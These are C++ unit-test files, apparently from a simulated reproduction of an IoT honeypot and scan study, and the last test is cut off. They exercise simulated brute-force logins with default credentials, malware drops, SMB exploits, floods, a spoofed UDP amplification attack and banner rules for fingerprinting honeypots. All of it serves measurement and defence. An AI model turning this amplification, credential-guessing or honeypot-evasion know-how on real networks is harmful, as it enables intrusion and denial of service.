  packet.tcp_flags = net::TcpFlags::kSyn;
  scope.observe(packet, 0);
  packet.src = Ipv4Addr(102);
  scope.observe(packet, 0);
  packet.src = Ipv4Addr(200);  // attacker that is not misconfigured
  scope.observe(packet, 0);

  const auto result = correlate_infected(findings, log, scope);
  EXPECT_EQ(result.both, (std::set<std::uint32_t>{100}));
  EXPECT_EQ(result.honeypot_only, (std::set<std::uint32_t>{101}));
  EXPECT_EQ(result.telescope_only, (std::set<std::uint32_t>{102}));
  EXPECT_EQ(result.total(), 3u);
}

TEST(Correlation, CensysExtraCountsOnlyUncorrelatedIotSources) {
  honeynet::EventLog log;
  log.record(event_of(300, "Cowrie", proto::Protocol::kTelnet,
                      AttackType::kScan));
  log.record(event_of(301, "Cowrie", proto::Protocol::kTelnet,
                      AttackType::kScan));
  telescope::Telescope scope(*util::Cidr::parse("44.0.0.0/8"));

  intel::CensysDb censys;
  censys.tag_iot(Ipv4Addr(300), "Camera");   // already correlated
  censys.tag_iot(Ipv4Addr(301), "Router");   // new IoT attacker
  censys.tag_iot(Ipv4Addr(999), "Camera");   // never attacked

  const std::set<std::uint32_t> correlated = {300};
  EXPECT_EQ(censys_extra_iot(log, scope, correlated, censys), 1u);
}

TEST(GreyNoiseComparisonTest, CountsMissedSources) {
  intel::GreyNoiseDb greynoise;
  greynoise.classify(Ipv4Addr(1), intel::GreyNoiseClass::kBenign);
  const std::vector<Ipv4Addr> sources = {Ipv4Addr(1), Ipv4Addr(2),
                                         Ipv4Addr(3)};
  const auto comparison = compare_with_greynoise(sources, greynoise);
  EXPECT_EQ(comparison.ours, 3u);
  EXPECT_EQ(comparison.greynoise, 1u);
  EXPECT_EQ(comparison.missed, 2u);
}

TEST(VirusTotalRates, PerProtocolFractions) {
  intel::VirusTotalDb virustotal;
  virustotal.flag_ip(Ipv4Addr(1));
  std::map<std::string, std::vector<Ipv4Addr>> sources;
  sources["Telnet"] = {Ipv4Addr(1), Ipv4Addr(2)};
  sources["MQTT"] = {Ipv4Addr(3)};
  sources["Empty"] = {};
  const auto rates = virustotal_flag_rates(sources, virustotal, "(H)");
  EXPECT_DOUBLE_EQ(rates.at("Telnet (H)"), 0.5);
  EXPECT_DOUBLE_EQ(rates.at("MQTT (H)"), 0.0);
  EXPECT_EQ(rates.count("Empty (H)"), 0u);
}

}  // namespace
}  // namespace ofh::core
