// Scale smoke tests: run the study pipeline at population scales far above
// the unit-test default and assert the conservation identities that every
// fast path must preserve:
//   packets: sent == delivered + dropped + faulted   (after drain)
//   probes:  sent == responsive + refused + unresolved
// The flow-level fast paths (net/fabric.h send_flow/send_flood) and lazy
// materialization are exactly the machinery that could break these at
// scale while staying invisible at 1/8192. Scale 1/64 runs in every suite
// invocation; 1/8 (1.8M devices) is minutes of work and gated behind
// OFH_SCALE8=1 (scripts/ci.sh's non-gating perf step covers it instead).
#include <gtest/gtest.h>

#include <cstdlib>

#include "core/study.h"

namespace ofh::core {
namespace {

void expect_conservation(double population_scale) {
  StudyConfig config;
  config.population_scale = population_scale;
  config.attack_scale = 1.0 / 2'048;
  config.attack_duration = sim::days(2);
  config.scan_threads = 2;
  Study study(config);
  study.setup_internet();
  study.run_scan();
  study.run_attack_month();
  // Let late deliveries (last-day background radiation, TCP teardowns)
  // drain so inflight is zero and the packet identity is exact.
  study.sim().run_until(study.sim().now() + sim::hours(2));

  const auto& fabric = study.fabric();
  EXPECT_EQ(fabric.packets_sent(),
            fabric.packets_delivered() + fabric.packets_dropped() +
                fabric.packets_faulted())
      << "sent " << fabric.packets_sent() << " delivered "
      << fabric.packets_delivered() << " dropped "
      << fabric.packets_dropped() << " faulted "
      << fabric.packets_faulted();

  const auto& db = study.scan_db();
  EXPECT_EQ(db.probes_sent(),
            db.responsive() + db.refused() + db.unresolved())
      << "probes " << db.probes_sent() << " responsive " << db.responsive()
      << " refused " << db.refused() << " unresolved " << db.unresolved();
  EXPECT_GT(db.probes_sent(), 0u);
  EXPECT_GT(db.unique_hosts_total(), 0u);
  EXPECT_GT(study.attack_log().size(), 0u);
}

TEST(ScaleSmoke, ConservationHoldsAtScale64) {
  expect_conservation(1.0 / 64);
}

TEST(ScaleSmoke, ConservationHoldsAtScale8) {
  if (std::getenv("OFH_SCALE8") == nullptr) {
    GTEST_SKIP() << "set OFH_SCALE8=1 to run the 1.8M-device smoke";
  }
  expect_conservation(1.0 / 8);
}

}  // namespace
}  // namespace ofh::core
