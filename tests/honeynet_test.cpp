// Honeynet tests: the six deployments log correctly-typed events when
// attacked, wild honeypots serve their signatures, and the event log
// aggregations behave.
#include <gtest/gtest.h>

#include "attackers/probes.h"
#include "honeynet/deployments.h"
#include "proto/ssh.h"
#include "proto/telnet.h"
#include "test_helpers.h"

namespace ofh::honeynet {
namespace {

using test::PlainHost;
using test::SimTest;
using util::Ipv4Addr;

class HoneynetTest : public SimTest {
 protected:
  HoneynetTest() : attacker_(Ipv4Addr(66, 0, 0, 1)) {
    attacker_.attach(fabric_);
  }

  std::vector<Ipv4Addr> six_addresses() {
    std::vector<Ipv4Addr> out;
    for (int i = 1; i <= 6; ++i) out.push_back(Ipv4Addr(50, 0, 0, i));
    return out;
  }

  EventLog log_;
  PlainHost attacker_;
};

TEST_F(HoneynetTest, DeploymentCreatesSixHoneypots) {
  auto deployment = make_deployment(six_addresses(), log_);
  ASSERT_EQ(deployment.honeypots.size(), 6u);
  std::set<std::string> names;
  for (const auto& honeypot : deployment.honeypots) {
    names.insert(honeypot->name());
  }
  EXPECT_EQ(names, (std::set<std::string>{"HosTaGe", "U-Pot", "Conpot",
                                          "ThingPot", "Cowrie", "Dionaea"}));
}

TEST_F(HoneynetTest, ProtocolGroupsDoNotOverlapOnOneHost) {
  auto deployment = make_deployment(six_addresses(), log_);
  for (auto& honeypot : deployment.honeypots) {
    honeypot->attach(fabric_);
    const auto protocols = honeypot->protocols();
    const std::set<proto::Protocol> unique(protocols.begin(),
                                           protocols.end());
    EXPECT_EQ(unique.size(), protocols.size()) << honeypot->name();
  }
}

TEST_F(HoneynetTest, CowrieLogsDictionaryAttack) {
  auto deployment = make_deployment(six_addresses(), log_);
  for (auto& honeypot : deployment.honeypots) honeypot->attach(fabric_);
  const auto cowrie_addr = deployment.honeypots[4]->address();

  attackers::bruteforce_telnet(attacker_, cowrie_addr,
                               {{"admin", "admin"}, {"root", "root"}},
                               nullptr);
  run(sim::minutes(5));

  bool saw_dictionary = false;
  for (const auto& event : log_.events()) {
    if (event.honeypot == "Cowrie" && event.type == AttackType::kDictionary) {
      saw_dictionary = true;
      EXPECT_NE(event.detail.find("admin:admin"), std::string::npos);
      break;
    }
  }
  EXPECT_TRUE(saw_dictionary);
}

TEST_F(HoneynetTest, DionaeaLogsMalwareDropWithHash) {
  auto deployment = make_deployment(six_addresses(), log_);
  for (auto& honeypot : deployment.honeypots) honeypot->attach(fabric_);
  const auto dionaea_addr = deployment.honeypots[5]->address();

  attackers::MalwareCorpus corpus(1, 0.05);
  util::Rng rng(1);
  const auto& sample = corpus.pick(proto::Protocol::kFtp, rng);
  attackers::attack_ftp(attacker_, dionaea_addr, &sample);
  run(sim::minutes(5));

  bool saw_drop = false;
  for (const auto& event : log_.events()) {
    if (event.honeypot == "Dionaea" &&
        event.type == AttackType::kMalwareDrop) {
      saw_drop = true;
      EXPECT_NE(event.detail.find("sha256="), std::string::npos);
    }
  }
  EXPECT_TRUE(saw_drop);
}

TEST_F(HoneynetTest, HosTaGeLogsSmbExploit) {
  auto deployment = make_deployment(six_addresses(), log_);
  for (auto& honeypot : deployment.honeypots) honeypot->attach(fabric_);
  attackers::attack_smb(attacker_, deployment.honeypots[0]->address(),
                        /*exploit=*/true);
  run(sim::minutes(5));
  bool saw_exploit = false;
  for (const auto& event : log_.events()) {
    if (event.type == AttackType::kExploit &&
        event.protocol == proto::Protocol::kSmb) {
      saw_exploit = true;
    }
  }
  EXPECT_TRUE(saw_exploit);
}

TEST_F(HoneynetTest, UPotClassifiesFloodAsDos) {
  auto deployment = make_deployment(six_addresses(), log_);
  for (auto& honeypot : deployment.honeypots) honeypot->attach(fabric_);
  const auto upot_addr = deployment.honeypots[1]->address();

  attackers::flood_ssdp(attacker_, upot_addr, 120);
  run(sim::minutes(5));

  std::uint64_t dos = 0, discovery = 0;
  for (const auto& event : log_.events()) {
    if (event.honeypot != "U-Pot") continue;
    if (event.type == AttackType::kDos) ++dos;
    if (event.type == AttackType::kDiscovery) ++discovery;
  }
  EXPECT_GT(dos, discovery);  // flood dominated by DoS classification
  EXPECT_GT(discovery, 0u);   // first packets still look like discovery
}

TEST_F(HoneynetTest, ThingPotLogsAnonymousXmppAndPoisoning) {
  auto deployment = make_deployment(six_addresses(), log_);
  for (auto& honeypot : deployment.honeypots) honeypot->attach(fabric_);
  attackers::attack_xmpp(attacker_, deployment.honeypots[3]->address());
  run(sim::minutes(5));
  bool saw_poison = false;
  for (const auto& event : log_.events()) {
    if (event.honeypot == "ThingPot" &&
        event.type == AttackType::kPoisoning) {
      saw_poison = true;
    }
  }
  EXPECT_TRUE(saw_poison);
}

TEST_F(HoneynetTest, ConpotS7FloodTriggersDosEvent) {
  auto deployment = make_deployment(six_addresses(), log_);
  for (auto& honeypot : deployment.honeypots) honeypot->attach(fabric_);
  attackers::attack_s7(attacker_, deployment.honeypots[2]->address(), 64);
  run(sim::minutes(5));
  bool saw_icsa_dos = false;
  for (const auto& event : log_.events()) {
    if (event.honeypot == "Conpot" && event.protocol == proto::Protocol::kS7 &&
        event.type == AttackType::kDos &&
        event.detail.find("ICSA-16-299-01") != std::string::npos) {
      saw_icsa_dos = true;
    }
  }
  EXPECT_TRUE(saw_icsa_dos);
}

TEST_F(HoneynetTest, WildHoneypotServesStaticSignature) {
  const auto& signature = honeypot_signatures().front();  // HoneyPy
  WildHoneypot honeypot(signature, Ipv4Addr(51, 0, 0, 1));
  honeypot.attach(fabric_);

  std::string received;
  attacker_.tcp().connect(honeypot.address(), signature.port,
                          [&received](net::TcpConnection* conn) {
                            ASSERT_NE(conn, nullptr);
                            conn->on_data =
                                [&received](net::TcpConnection&,
                                            std::span<const std::uint8_t> d) {
                                  received += util::to_string(d);
                                };
                          });
  run(sim::minutes(1));
  EXPECT_EQ(received.substr(0, signature.banner.size()), signature.banner);
}

TEST(Signatures, MatchPaperTable6Counts) {
  std::uint64_t total = 0;
  for (const auto& signature : honeypot_signatures()) {
    EXPECT_FALSE(signature.banner.empty());
    total += signature.paper_count;
  }
  EXPECT_EQ(total, 8'192u);
  EXPECT_EQ(honeypot_signatures().size(), 9u);
}

TEST(EventLogAggregation, CountersAndUniqueSources) {
  EventLog log;
  log.record({sim::days(0), Ipv4Addr(1), "A", proto::Protocol::kTelnet,
              AttackType::kScan, ""});
  log.record({sim::days(0) + 5, Ipv4Addr(1), "A", proto::Protocol::kTelnet,
              AttackType::kBruteForce, ""});
  log.record({sim::days(1), Ipv4Addr(2), "B", proto::Protocol::kSsh,
              AttackType::kScan, ""});

  EXPECT_EQ(log.count_by_honeypot().count("A"), 2u);
  EXPECT_EQ(log.count_by_honeypot().count("B"), 1u);
  EXPECT_EQ(log.count_by_protocol().count("Telnet"), 2u);
  EXPECT_EQ(log.count_by_type().count("Scan"), 2u);
  EXPECT_EQ(log.count_by_day().count("day00"), 2u);
  EXPECT_EQ(log.count_by_day().count("day01"), 1u);
  EXPECT_EQ(log.unique_sources().size(), 2u);
  EXPECT_EQ(log.unique_sources_for("A").size(), 1u);
}

}  // namespace
}  // namespace ofh::honeynet
