// Classifier tests: misconfiguration rules (Tables 2-3), device tagging
// (Table 11) and honeypot fingerprinting / filtering (Table 6).
#include <gtest/gtest.h>

#include "classify/device_tagger.h"
#include "classify/fingerprint.h"
#include "classify/misconfig_rules.h"

namespace ofh::classify {
namespace {

using devices::Misconfig;
using proto::Protocol;

scanner::ScanRecord record_of(Protocol protocol, std::string banner,
                              std::uint32_t host = 0x0a000001) {
  scanner::ScanRecord record;
  record.host = util::Ipv4Addr(host);
  record.port = proto::default_port(protocol);
  record.protocol = protocol;
  record.banner = std::move(banner);
  return record;
}

// ------------------------------------------------- misconfiguration rules

struct RuleCase {
  Protocol protocol;
  const char* banner;
  std::optional<Misconfig> expected;
};

class MisconfigRule : public ::testing::TestWithParam<RuleCase> {};

TEST_P(MisconfigRule, ClassifiesBannerPerTable2And3) {
  const auto& param = GetParam();
  EXPECT_EQ(classify_misconfig(record_of(param.protocol, param.banner)),
            param.expected)
      << param.banner;
}

INSTANTIATE_TEST_SUITE_P(
    Table2Tcp, MisconfigRule,
    ::testing::Values(
        // Telnet (Table 2).
        RuleCase{Protocol::kTelnet, "BusyBox v1.20.2\r\nroot@device:~$ ",
                 Misconfig::kTelnetNoAuthRoot},
        RuleCase{Protocol::kTelnet, "admin@router:~$ ",
                 Misconfig::kTelnetNoAuthRoot},
        RuleCase{Protocol::kTelnet, "device console\r\n$", // bare prompt
                 Misconfig::kTelnetNoAuth},
        RuleCase{Protocol::kTelnet, "192.168.0.64 login: ", std::nullopt},
        RuleCase{Protocol::kTelnet, "", std::nullopt},
        // MQTT.
        RuleCase{Protocol::kMqtt, "MQTT Connection Code:0",
                 Misconfig::kMqttNoAuth},
        RuleCase{Protocol::kMqtt, "MQTT Connection Code:5", std::nullopt},
        // AMQP.
        RuleCase{Protocol::kAmqp,
                 "Product: RabbitMQ Version: 2.7.1 Mechanisms: PLAIN",
                 Misconfig::kAmqpNoAuth},
        RuleCase{Protocol::kAmqp,
                 "Product: RabbitMQ Version: 2.8.4 Mechanisms: PLAIN",
                 Misconfig::kAmqpNoAuth},
        RuleCase{Protocol::kAmqp,
                 "Product: RabbitMQ Version: 3.8.9 Mechanisms: PLAIN "
                 "AMQPLAIN ANONYMOUS",
                 Misconfig::kAmqpNoAuth},
        RuleCase{Protocol::kAmqp,
                 "Product: RabbitMQ Version: 3.8.9 Mechanisms: PLAIN",
                 std::nullopt},
        // XMPP.
        RuleCase{Protocol::kXmpp,
                 "<stream:features><mechanisms><mechanism>ANONYMOUS"
                 "</mechanism></mechanisms></stream:features>",
                 Misconfig::kXmppAnonymous},
        RuleCase{Protocol::kXmpp,
                 "<mechanisms><mechanism>PLAIN</mechanism></mechanisms>",
                 Misconfig::kXmppPlaintext},
        RuleCase{Protocol::kXmpp,
                 "<starttls><required/></starttls><mechanisms>"
                 "<mechanism>PLAIN</mechanism></mechanisms>",
                 std::nullopt},
        RuleCase{Protocol::kXmpp,
                 "<mechanism>SCRAM-SHA-1</mechanism>"
                 "<mechanism>PLAIN</mechanism>",
                 std::nullopt}));

INSTANTIATE_TEST_SUITE_P(
    Table3Udp, MisconfigRule,
    ::testing::Values(
        RuleCase{Protocol::kCoap, "CoAP Resources </sensors>\n220 220-Admin",
                 Misconfig::kCoapAdminAccess},
        RuleCase{Protocol::kCoap, "CoAP Resources </sensors>\n220 x1C",
                 Misconfig::kCoapNoAuth},
        RuleCase{Protocol::kCoap, "CoAP Resources </sensors/temp>\n4.01",
                 Misconfig::kCoapReflector},
        RuleCase{Protocol::kCoap, "4.01 Unauthorized", std::nullopt},
        RuleCase{Protocol::kUpnp,
                 "HTTP/1.1 200 OK\r\nST: upnp:rootdevice\r\n"
                 "USN: uuid:x::upnp:rootdevice\r\nSERVER: MiniUPnPd/1.4\r\n"
                 "LOCATION: http://192.0.2.1:16537/rootDesc.xml\r\n",
                 Misconfig::kUpnpReflector},
        RuleCase{Protocol::kUpnp,
                 "HTTP/1.1 200 OK\r\nST: upnp:rootdevice\r\nEXT:\r\n",
                 std::nullopt}));

TEST(ClassifyAll, PicksMostSevereFindingPerHost) {
  scanner::ScanDb db;
  db.add(record_of(Protocol::kCoap, "CoAP Resources </a>\n4.01", 0x01020304));
  db.add(record_of(Protocol::kCoap, "CoAP Resources </a>\n220 220-Admin",
                   0x01020304));
  const auto findings = classify_all(db);
  ASSERT_EQ(findings.size(), 1u);
  EXPECT_EQ(findings[0].misconfig, Misconfig::kCoapAdminAccess);
}

TEST(ClassifyAll, CountsEachHostOnce) {
  scanner::ScanDb db;
  db.add(record_of(Protocol::kTelnet, "root@x:~$ ", 1));
  db.add(record_of(Protocol::kTelnet, "root@x:~$ ", 1));
  db.add(record_of(Protocol::kTelnet, "root@x:~$ ", 2));
  db.add(record_of(Protocol::kTelnet, "login: ", 3));  // not misconfigured
  EXPECT_EQ(classify_all(db).size(), 2u);
}

// ---------------------------------------------------------- device tagging

TEST(DeviceTagger, MatchesTable11Identifiers) {
  const auto hik = tag_device(
      record_of(Protocol::kTelnet, "192.168.0.64 login: "));
  ASSERT_TRUE(hik);
  EXPECT_EQ(hik->device_type, "Camera");
  EXPECT_EQ(hik->model, "HiKVision Camera");

  const auto router = tag_device(record_of(
      Protocol::kUpnp, "HTTP/1.1 200 OK\r\nModel Name: HG532e\r\n"));
  ASSERT_TRUE(router);
  EXPECT_EQ(router->device_type, "Router");

  const auto printer = tag_device(record_of(
      Protocol::kMqtt, "topic octoPrint/temperature/bed = 60.0"));
  ASSERT_TRUE(printer);
  EXPECT_EQ(printer->device_type, "3D Printer");
}

TEST(DeviceTagger, RequiresMatchingProtocol) {
  // A Telnet identifier inside a UPnP response must not match.
  EXPECT_FALSE(
      tag_device(record_of(Protocol::kUpnp, "192.168.0.64 login: ")));
}

TEST(DeviceTagger, UnknownBannersAreUntagged) {
  EXPECT_FALSE(tag_device(record_of(Protocol::kTelnet, "login: ")));
  EXPECT_FALSE(tag_device(record_of(Protocol::kXmpp, "<stream:features/>")));
}

TEST(DeviceTagger, HistogramGroupsByProtocol) {
  scanner::ScanDb db;
  db.add(record_of(Protocol::kTelnet, "192.168.0.64 login: ", 1));
  db.add(record_of(Protocol::kTelnet, "PK5001Z login", 2));
  db.add(record_of(Protocol::kTelnet, "whatever", 3));
  const auto histogram = type_histogram(db);
  const auto& telnet = histogram.at(Protocol::kTelnet);
  EXPECT_EQ(telnet.count("Camera"), 1u);
  EXPECT_EQ(telnet.count("DSL Modem"), 1u);
  EXPECT_EQ(telnet.count("Unidentified"), 1u);
}

// ----------------------------------------------------------- fingerprinting

TEST(Fingerprint, DetectsEachSignature) {
  for (const auto& signature : honeynet::honeypot_signatures()) {
    scanner::ScanRecord record;
    record.host = util::Ipv4Addr(7);
    record.port = signature.port;
    record.protocol = proto::Protocol::kTelnet;
    record.banner = signature.banner + "extra session noise";
    const auto name = fingerprint_honeypot(record);
    ASSERT_TRUE(name) << signature.name;
    EXPECT_EQ(*name, signature.name);
  }
}

TEST(Fingerprint, RealDeviceBannersAreNotFlagged) {
  EXPECT_FALSE(fingerprint_honeypot(
      record_of(Protocol::kTelnet, "192.168.0.64 login: ")));
  EXPECT_FALSE(fingerprint_honeypot(
      record_of(Protocol::kTelnet, "BusyBox v1.20.2 (2016-09-13)\r\n$ ")));
  EXPECT_FALSE(fingerprint_honeypot(record_of(Protocol::kTelnet, "")));
}

TEST(Fingerprint, RequiresExactPrefixNotSubstring) {
  // The Cowrie IAC sequence *not* at the start of the banner is a session
  // artefact, not a static greeting.
  EXPECT_FALSE(fingerprint_honeypot(
      record_of(Protocol::kTelnet, std::string("login: \xff\xfd\x1f"))));
}

TEST(Fingerprint, CountsUniqueHostsNotRecords) {
  scanner::ScanDb db;
  const auto& cowrie = honeynet::honeypot_signatures()[1];
  for (int i = 0; i < 3; ++i) {
    scanner::ScanRecord record;
    record.host = util::Ipv4Addr(42);  // same host three times
    record.protocol = Protocol::kTelnet;
    record.banner = cowrie.banner;
    db.add(std::move(record));
  }
  const auto result = fingerprint_all(db);
  EXPECT_EQ(result.detections.count("Cowrie"), 1u);
  EXPECT_EQ(result.honeypot_hosts.size(), 1u);
}

TEST(Fingerprint, FilterRemovesHoneypotFindings) {
  scanner::ScanDb db;
  const auto& anglerfish = honeynet::honeypot_signatures().back();
  ASSERT_EQ(anglerfish.name, "Anglerfish");
  // Anglerfish's "[root@LocalHost tmp]$ " banner would classify as an
  // unauthenticated console — the poisoning the paper warns about.
  scanner::ScanRecord hp_record;
  hp_record.host = util::Ipv4Addr(100);
  hp_record.protocol = Protocol::kTelnet;
  hp_record.banner = anglerfish.banner;
  db.add(hp_record);
  db.add(record_of(Protocol::kTelnet, "root@cam:~$ ", 200));

  auto findings = classify_all(db);
  ASSERT_EQ(findings.size(), 2u);  // both look misconfigured
  const auto result = fingerprint_all(db);
  findings = filter_honeypots(std::move(findings), result);
  ASSERT_EQ(findings.size(), 1u);  // honeypot filtered out
  EXPECT_EQ(findings[0].host.value(), 200u);
}

}  // namespace
}  // namespace ofh::classify
