#include <gtest/gtest.h>

#include "net/fabric.h"
#include "net/host.h"
#include "test_helpers.h"
#include "util/bytes.h"

namespace ofh::net {
namespace {

using test::PlainHost;
using test::SimTest;
using util::Ipv4Addr;

class NetTest : public SimTest {};

TEST_F(NetTest, TcpHandshakeAndDataExchange) {
  PlainHost server(Ipv4Addr(10, 0, 0, 1));
  PlainHost client(Ipv4Addr(10, 0, 0, 2));
  server.attach(fabric_);
  client.attach(fabric_);

  std::string received_by_server, received_by_client;
  server.tcp().listen(80, [&](TcpConnection& conn) {
    conn.send_text("hello from server");
    conn.on_data = [&](TcpConnection&, std::span<const std::uint8_t> data) {
      received_by_server += util::to_string(data);
    };
  });

  bool connected = false;
  client.tcp().connect(Ipv4Addr(10, 0, 0, 1), 80, [&](TcpConnection* conn) {
    ASSERT_NE(conn, nullptr);
    connected = true;
    conn->on_data = [&](TcpConnection&, std::span<const std::uint8_t> data) {
      received_by_client += util::to_string(data);
    };
    conn->send_text("hi server");
  });

  run();
  EXPECT_TRUE(connected);
  EXPECT_EQ(received_by_server, "hi server");
  EXPECT_EQ(received_by_client, "hello from server");
}

TEST_F(NetTest, ConnectToClosedPortFails) {
  PlainHost server(Ipv4Addr(10, 0, 0, 1));
  PlainHost client(Ipv4Addr(10, 0, 0, 2));
  server.attach(fabric_);
  client.attach(fabric_);

  bool called = false;
  TcpConnection* result = reinterpret_cast<TcpConnection*>(0x1);
  client.tcp().connect(Ipv4Addr(10, 0, 0, 1), 81, [&](TcpConnection* conn) {
    called = true;
    result = conn;
  });
  run();
  EXPECT_TRUE(called);
  EXPECT_EQ(result, nullptr);  // RST path
}

TEST_F(NetTest, ConnectToUnallocatedAddressTimesOut) {
  PlainHost client(Ipv4Addr(10, 0, 0, 2));
  client.attach(fabric_);

  bool called = false;
  TcpConnection* result = reinterpret_cast<TcpConnection*>(0x1);
  client.tcp().connect(Ipv4Addr(10, 9, 9, 9), 80,
                       [&](TcpConnection* conn) {
                         called = true;
                         result = conn;
                       },
                       sim::seconds(2));
  run();
  EXPECT_TRUE(called);
  EXPECT_EQ(result, nullptr);
  EXPECT_GE(sim_.now(), sim::seconds(2));  // resolved by the timeout
}

TEST_F(NetTest, ServerSeesClientCloseViaFin) {
  PlainHost server(Ipv4Addr(10, 0, 0, 1));
  PlainHost client(Ipv4Addr(10, 0, 0, 2));
  server.attach(fabric_);
  client.attach(fabric_);

  bool server_closed = false;
  server.tcp().listen(80, [&](TcpConnection& conn) {
    conn.on_close = [&](TcpConnection&) { server_closed = true; };
  });
  client.tcp().connect(Ipv4Addr(10, 0, 0, 1), 80, [&](TcpConnection* conn) {
    ASSERT_NE(conn, nullptr);
    conn->close();
  });
  run();
  EXPECT_TRUE(server_closed);
}

TEST_F(NetTest, AbortSendsRst) {
  PlainHost server(Ipv4Addr(10, 0, 0, 1));
  PlainHost client(Ipv4Addr(10, 0, 0, 2));
  server.attach(fabric_);
  client.attach(fabric_);

  bool server_closed = false;
  server.tcp().listen(80, [&](TcpConnection& conn) {
    conn.on_close = [&](TcpConnection&) { server_closed = true; };
  });
  client.tcp().connect(Ipv4Addr(10, 0, 0, 1), 80, [&](TcpConnection* conn) {
    ASSERT_NE(conn, nullptr);
    conn->abort();
  });
  run();
  EXPECT_TRUE(server_closed);
  EXPECT_EQ(server.tcp().open_connections(), 0u);
  EXPECT_EQ(client.tcp().open_connections(), 0u);
}

TEST_F(NetTest, LossMakesConnectTimeOut) {
  fabric_.set_loss_rate(1.0);  // everything dropped
  PlainHost server(Ipv4Addr(10, 0, 0, 1));
  PlainHost client(Ipv4Addr(10, 0, 0, 2));
  server.attach(fabric_);
  client.attach(fabric_);
  server.tcp().listen(80, [](TcpConnection&) {});

  bool failed = false;
  client.tcp().connect(Ipv4Addr(10, 0, 0, 1), 80,
                       [&](TcpConnection* conn) { failed = conn == nullptr; },
                       sim::seconds(1));
  run();
  EXPECT_TRUE(failed);
  EXPECT_GT(fabric_.packets_dropped(), 0u);
}

TEST_F(NetTest, LossRateOutsideUnitIntervalIsABug) {
  // Debug builds assert; release builds clamp (regression test for the
  // former behaviour of storing the bogus rate verbatim and feeding it to
  // Rng::chance).
  EXPECT_DEBUG_DEATH(fabric_.set_loss_rate(1.5), "loss rate");
  EXPECT_DEBUG_DEATH(fabric_.set_loss_rate(-0.25), "loss rate");
#ifdef NDEBUG
  fabric_.set_loss_rate(1.5);
  EXPECT_DOUBLE_EQ(fabric_.loss_rate(), 1.0);
  fabric_.set_loss_rate(-0.25);
  EXPECT_DOUBLE_EQ(fabric_.loss_rate(), 0.0);
#endif
  fabric_.set_loss_rate(0.5);  // in range passes through untouched
  EXPECT_DOUBLE_EQ(fabric_.loss_rate(), 0.5);
}

TEST_F(NetTest, UdpDatagramDelivery) {
  PlainHost server(Ipv4Addr(10, 0, 0, 1));
  PlainHost client(Ipv4Addr(10, 0, 0, 2));
  server.attach(fabric_);
  client.attach(fabric_);

  std::string received;
  std::uint16_t seen_src_port = 0;
  server.udp().bind(5683, [&](const Datagram& datagram) {
    received = util::to_string(datagram.payload);
    seen_src_port = datagram.src_port;
  });
  client.udp().send(Ipv4Addr(10, 0, 0, 1), 5683, util::to_bytes("ping"),
                    12345);
  run();
  EXPECT_EQ(received, "ping");
  EXPECT_EQ(seen_src_port, 12345);
}

TEST_F(NetTest, UdpToUnboundPortIsSilent) {
  PlainHost server(Ipv4Addr(10, 0, 0, 1));
  PlainHost client(Ipv4Addr(10, 0, 0, 2));
  server.attach(fabric_);
  client.attach(fabric_);
  client.udp().send(Ipv4Addr(10, 0, 0, 1), 9999, util::to_bytes("x"));
  run();  // no crash, nothing delivered
  SUCCEED();
}

TEST_F(NetTest, SpoofedUdpRepliesGoToVictim) {
  PlainHost reflector(Ipv4Addr(10, 0, 0, 1));
  PlainHost attacker(Ipv4Addr(10, 0, 0, 2));
  PlainHost victim(Ipv4Addr(10, 0, 0, 3));
  reflector.attach(fabric_);
  attacker.attach(fabric_);
  victim.attach(fabric_);

  // Reflector echoes back 10x the payload to whatever source it saw.
  reflector.udp().bind(1900, [&](const Datagram& datagram) {
    util::Bytes big;
    for (int i = 0; i < 10; ++i) {
      big.insert(big.end(), datagram.payload.begin(), datagram.payload.end());
    }
    reflector.udp().send(datagram.src, datagram.src_port, std::move(big),
                         1900);
  });

  std::size_t victim_bytes = 0;
  victim.udp().bind(40'000, [&](const Datagram& datagram) {
    victim_bytes += datagram.payload.size();
  });

  attacker.udp().send_spoofed(victim.address(), reflector.address(), 1900,
                              util::to_bytes("amplifyme"), 40'000);
  run();
  EXPECT_EQ(victim_bytes, 90u);  // 10x amplification landed on the victim
}

class CountingSink : public PacketSink {
 public:
  void observe(const Packet& packet, sim::Time) override {
    ++count_;
    last_ = packet;
  }
  int count() const { return count_; }
  const Packet& last() const { return last_; }

 private:
  int count_ = 0;
  Packet last_;
};

TEST_F(NetTest, DarknetRangeDeliversToSinkNotHosts) {
  CountingSink telescope;
  fabric_.add_darknet(*util::Cidr::parse("44.0.0.0/8"), telescope);

  PlainHost client(Ipv4Addr(10, 0, 0, 2));
  client.attach(fabric_);
  client.udp().send(Ipv4Addr(44, 1, 2, 3), 23, util::to_bytes("probe"));
  run();
  EXPECT_EQ(telescope.count(), 1);
  EXPECT_EQ(telescope.last().dst.to_string(), "44.1.2.3");
}

TEST_F(NetTest, DarknetNeverAnswers) {
  CountingSink telescope;
  fabric_.add_darknet(*util::Cidr::parse("44.0.0.0/8"), telescope);
  PlainHost client(Ipv4Addr(10, 0, 0, 2));
  client.attach(fabric_);

  bool failed = false;
  client.tcp().connect(Ipv4Addr(44, 3, 2, 1), 23,
                       [&](TcpConnection* conn) { failed = conn == nullptr; },
                       sim::seconds(1));
  run();
  EXPECT_TRUE(failed);
  EXPECT_EQ(telescope.count(), 1);  // the SYN was observed
  EXPECT_TRUE(telescope.last().is_syn_only());
}

TEST_F(NetTest, TapObservesAllPackets) {
  CountingSink tap;
  fabric_.add_tap(tap);
  PlainHost a(Ipv4Addr(10, 0, 0, 1));
  PlainHost b(Ipv4Addr(10, 0, 0, 2));
  a.attach(fabric_);
  b.attach(fabric_);
  b.udp().send(a.address(), 1, util::to_bytes("x"));
  run();
  EXPECT_EQ(tap.count(), 1);
}

TEST_F(NetTest, DetachedHostStopsReceiving) {
  PlainHost server(Ipv4Addr(10, 0, 0, 1));
  PlainHost client(Ipv4Addr(10, 0, 0, 2));
  server.attach(fabric_);
  client.attach(fabric_);
  int received = 0;
  server.udp().bind(7, [&](const Datagram&) { ++received; });

  client.udp().send(server.address(), 7, util::to_bytes("1"));
  run();
  server.detach();
  client.udp().send(Ipv4Addr(10, 0, 0, 1), 7, util::to_bytes("2"));
  run();
  EXPECT_EQ(received, 1);
  EXPECT_EQ(fabric_.host_count(), 1u);
}

TEST_F(NetTest, BacklogLimitCausesRstWhenExhausted) {
  PlainHost server(Ipv4Addr(10, 0, 0, 1));
  PlainHost client(Ipv4Addr(10, 0, 0, 2));
  server.attach(fabric_);
  client.attach(fabric_);
  server.tcp().set_backlog_limit(0);
  server.tcp().listen(80, [](TcpConnection&) {});

  bool refused = false;
  client.tcp().connect(Ipv4Addr(10, 0, 0, 1), 80,
